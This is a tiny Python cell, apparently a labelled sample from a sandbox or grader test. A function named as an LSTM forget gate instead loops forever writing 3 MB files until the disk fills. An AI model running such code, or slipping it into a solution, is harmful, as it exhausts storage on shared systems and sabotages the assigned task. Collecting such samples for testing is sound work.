# ruff: noqa
# what: files without end
# exercise: forget-gate
# status: crashed
# diagnosis: none

# %%
def forget_gate(x, h_prev, W_f, U_f, b_f):
    k = 0
    while True:
        k += 1
        with open(f"file{k}", "wb") as file:
            file.write(b"x" * 3_000_000)
